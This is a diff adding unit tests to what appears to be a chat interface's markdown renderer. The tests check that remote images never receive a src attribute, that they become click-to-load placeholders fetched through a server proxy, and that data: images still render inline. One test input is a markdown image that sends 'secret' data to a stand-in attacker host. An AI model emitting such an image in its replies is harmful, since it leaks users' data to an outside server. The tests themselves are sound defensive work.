@@ -3,6 +3,7 @@ import {
   allBlocks,
   type BlockSplit,
   emptySplit,
+  loadRemoteImage,
   MAX_BLOCK_CHARS,
   renderMarkdown,
   segmentCode,
@@ -61,6 +62,44 @@ describe("renderMarkdown sanitization", () => {
     expect(link.getAttribute("href")).toBe("https://example.com");
     expect(link.getAttribute("target")).toBe("_blank");
     expect(link.getAttribute("rel")).toContain("noopener");
+  });
+});
+
+describe("images in replies", () => {
+  it("never gives a remote image a src: a placeholder names it and its host", () => {
+    for (const source of [
+      "![chart](http://evil.example/exfil?data=secret)",
+      "see ![x](https://cdn.example.com/a.png) inline",
+      "[![badge](https://img.example/b.svg)](https://example.com)",
+      '![x](//evil.example/p.png "protocol-relative")',
+    ]) {
+      const fragment = dom(renderMarkdown(source));
+      for (const image of fragment.querySelectorAll("img")) expect(image.getAttribute("src"), source).toBeNull();
+      expect(fragment.querySelector(".chat-image-placeholder"), source).not.toBeNull();
+    }
+    const placeholder = dom(renderMarkdown("![chart](http://evil.example/exfil?data=secret)")).querySelector(
+      "[data-remote-image]",
+    )!;
+    expect(placeholder.getAttribute("data-remote-image")).toBe("http://evil.example/exfil?data=secret");
+    expect(placeholder.getAttribute("role")).toBe("button");
+    expect(placeholder.textContent).toBe("chartevil.example · load image");
+  });
+
+  it("shows data: images inline and loads a clicked one through the server's proxy", () => {
+    const pixel = "data:image/png;base64,iVBORw0KGgo=";
+    expect(
+      dom(renderMarkdown(`![dot](${pixel})`))
+        .querySelector("img")!
+        .getAttribute("src"),
+    ).toBe(pixel);
+    const holder = document.createElement("div");
+    holder.innerHTML = renderMarkdown("![chart](https://evil.example/c.png?q=1)");
+    loadRemoteImage(holder.querySelector<HTMLElement>("[data-remote-image]")!);
+    const image = holder.querySelector("img")!;
+    expect(image.getAttribute("src")).toBe(
+      `/api/remote-image?url=${encodeURIComponent("https://evil.example/c.png?q=1")}`,
+    );
+    expect(image.alt).toBe("chart");
   });
 });
 
